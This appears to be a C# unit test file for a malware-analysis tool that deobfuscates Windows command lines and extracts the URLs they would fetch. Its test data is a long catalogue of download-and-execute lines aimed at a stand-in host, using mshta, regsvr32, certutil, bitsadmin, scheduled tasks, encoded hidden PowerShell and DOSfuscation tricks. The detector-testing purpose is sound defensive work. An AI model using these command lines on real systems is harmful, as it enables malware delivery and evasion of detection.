using System.Text;
using Lurewatch.Files;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.Batch;

/// <summary>Command lines in the manners of DOSfuscation and of the usual launchers. Each must lead to the one address.</summary>
public sealed class CommandLineTests
{
    private const string Url = "http://one.example/a";

    public static TheoryData<string> Fetching() =>
    [
        // launchers
        "mshta http://one.example/a",
        "C:\\Windows\\System32\\mshta.exe \"http://one.example/a\"",
        "regsvr32 /s /n /u /i:http://one.example/a scrobj.dll",
        "rundll32.exe url.dll,OpenURL http://one.example/a",
        "certutil -urlcache -split -f http://one.example/a %temp%\\a.exe",
        "certutil.exe /urlcache /f http://one.example/a a.exe & a.exe",
        "bitsadmin /transfer job /download /priority high http://one.example/a %appdata%\\a.exe",
        "curl -s -o %temp%\\x.dll http://one.example/a",
        "cmd /c curl one.example/a -o a.js & start a.js",
        "msiexec /q /i http://one.example/a",
        "msiexec.exe /package=\"http://one.example/a\" /qn",
        "cmd /c start http://one.example/a",
        "cmd /c start \"\" /min \"http://one.example/a\"",
        "explorer.exe \"http://one.example/a\"",
        "wmic os get /format:\"http://one.example/a\"",
        "wmic process call create \"mshta http://one.example/a\"",
        "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c mshta http://one.example/a\"",
        "pcalua.exe -a mshta.exe -c http://one.example/a",
        "conhost.exe --headless mshta http://one.example/a",
        "schtasks /create /sc minute /tn upd /tr \"mshta http://one.example/a\"",
        "cmd /c net use z: \\\\one.example@80\\a",
        "rundll32 \\\\one.example@80\\a,Entry",
        "wscript \\\\one.example@80\\a",
        // cmd
        "cmd /c \"mshta http://one.example/a\"",
        "C:\\Windows\\System32\\cmd.exe /c ms^h^t^a ht^tp:^//one.example/a",
        "cmd.exe /c m\"s\"h\"t\"a http://one.example/a",
        "%comspec% /c mshta http://one.example/a",
        "cmd /c \"set a=msh&& set b=ta http://one.ex&& set c=ample/a&& call %a%%b%%c%\"",
        "cmd /V:ON /C \"set x=a/elpmaxe.eno//:ptth athsm&&for /l %i in (26,-1,0) do set y=!y!!x:~%i,1!&&if %i==0 call %y:~-27%\"",
        "cmd /v /c \"set u=http://one.example/a&&set p=mshta&&!p! !u!\"",
        "cmd /c echo mshta http://one.example/a|cmd",
        "cmd /c \"echo mshta http://one.example/a | cmd.exe\"",
        ",;cmd.exe,;/c,;(((mshta http://one.example/a)))",
        "cmd /c \"for %a in (mshta) do %a http://one.example/a\"",
        "cmd /c \"FOR /F \"delims=s\\ tokens=4\" %a IN ('set^|findstr PSM')DO %a -c iwr http://one.example/a\"",
        "cmd /c \"for /f \"tokens=2 delims==f\" %f in ('assoc .cmd') do %f /c mshta http://one.example/a\"",
        "cmd /c \"%ProgramData:~0,1%%ProgramData:~9,2% /c mshta http://one.example/a\"",
        "cmd /c %comspec:~-7,3% /c mshta http://one.example/a",
        "cmd /c \"set q=mXhta http://one.eXample/a&&call set q=%q:mX=ms%&&call %q:eX=ex%\"",
        "cmd /c \"for /f %i in (\"mshta\") do %i http://one.example/a\"",
        "cmd /q /d /s /v:on /c\"set \"z=xathsm\"&for %i in (5,4,3,2,1) do @set k=!k!!z:~%i,1!& if %i==1 !k:~-5! http://one.example/a\"",
        "cmd/c\"mshta http://one.example/a\"",
        "cmd /c (mshta http://one.example/a)",
        "cmd /c echo x>nul & @mshta http://one.example/a",
        "cmd /c if exist c:\\windows (mshta http://one.example/a) else (calc)",
        "cmd /c ping -n 3 127.0.0.1 > nul & mshta http://one.example/a",
        "cmd /c copy /y %windir%\\system32\\certutil.exe %temp%\\ct.exe & %temp%\\ct.exe -urlcache -f http://one.example/a b.txt",
        "cmd /c \"(echo mshta)>f.txt&for /f %q in (f.txt) do %q http://one.example/a\"",
    ];

    [Theory]
    [MemberData(nameof(Fetching))]
    public void A_command_line_leads_to_the_address_that_it_would_fetch(string line) => Evaluated.Command(line).ShouldFetch(Url);

    public static TheoryData<string> PowerShells()
    {
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("iwr http://one.example/a"));
        return
        [
            $"powershell -e {encoded}", $"powershell.exe -nop -w hidden -enc {encoded}", $"powershell /e {encoded}", $"powershell –EncodedCommand {encoded}", $"powershell -NonI -W 1 -ec {encoded}", $"pwsh -eNcO {encoded}",
            $"cmd /c pow^ersh^ell -^e ^{encoded}", $"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ExecutionPolicy Bypass -encodedc {encoded}", $"cmd /c start /b powershell -noni -ep bypass -en {encoded}",
            "powershell iwr http://one.example/a", "powershell -c \"iwr http://one.example/a\"", "powershell -w hidden -command iwr http://one.example/a", "cmd /c echo iwr http://one.example/a | powershell -noprofile -",
            "cmd /c \"echo iwr http://one.example/a|powershell -\"", $"cmd /c \"set e={encoded}&&call powershell -enc %e%\"",
        ];
    }

    [Theory]
    [MemberData(nameof(PowerShells))]
    public void Every_spelling_of_PowerShells_options_gives_the_code(string line)
    {
        var explosion = Evaluated.Command(line);
        explosion.Artifacts.Any(file => file.Type == FileType.PowerShell && Encoding.UTF8.GetString(file.Bytes.Span).Trim() == "iwr http://one.example/a" && file.Steps.Contains("powershell")).ShouldBeTrue(explosion.Described());
        explosion.Actions().ShouldContain(action => action.StartsWith("Run p", StringComparison.OrdinalIgnoreCase) || action.StartsWith("Run C:", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("mshta javascript:a=GetObject('script:http://one.example/a');close();", FileType.JavaScript)]
    [InlineData("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)", FileType.VbScript)]
    [InlineData("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://one.example/a\")", FileType.JavaScript)]
    [InlineData("mshta \"about:<hta:application><script>x()</script>\"", FileType.Hta)]
    public void Script_in_an_argument_is_a_file_of_its_language(string line, FileType type) => Evaluated.Command(line).Artifacts.ShouldContain(file => file.Type == type && file.Origin == "decoded");

    [Fact]
    public void A_script_that_a_command_writes_and_runs_is_a_file_of_its_language() =>
        Evaluated.Command("cmd /c \"echo MsgBox 1 > %temp%\\q.vbs & wscript %temp%\\q.vbs\"").Artifacts.ShouldContain(file => file.Type == FileType.VbScript && file.Origin == "decoded");

    [Fact]
    public void A_script_of_ftp_tells_what_is_fetched() => Evaluated.Command("cmd /c \"echo open one.example>f.txt&echo get a b.exe>>f.txt&ftp -s:f.txt&b.exe\"").ShouldFetch("ftp://one.example/a");

    [Theory]
    [InlineData(@"\\host.example@80\davwwwroot\a.dll", "http://host.example/davwwwroot/a.dll")]
    [InlineData(@"\\host.example@SSL@8443\share\a.js", "https://host.example:8443/share/a.js")]
    [InlineData(@"\\192.0.2.7\share\a.exe", "file://192.0.2.7/share/a.exe")]
    public void A_path_on_another_machine_is_an_address(string path, string url) => Lurewatch.Scripts.Batch.UncPath.ToUrl(path).ShouldBe(url);

    [Theory]
    [InlineData("notepad.exe C:\\letter.txt")]
    [InlineData("\"C:\\Program Files\\App\\app.exe\" --open \"C:\\x y.txt\"")]
    [InlineData("cmd /c dir c:\\ > nul")]
    public void An_ordinary_command_line_does_nothing_worth_telling(string line)
    {
        var explosion = Evaluated.Command(line);
        explosion.Actions().ShouldBeEmpty(explosion.Described());
        explosion.Urls().ShouldBeEmpty();
    }
}
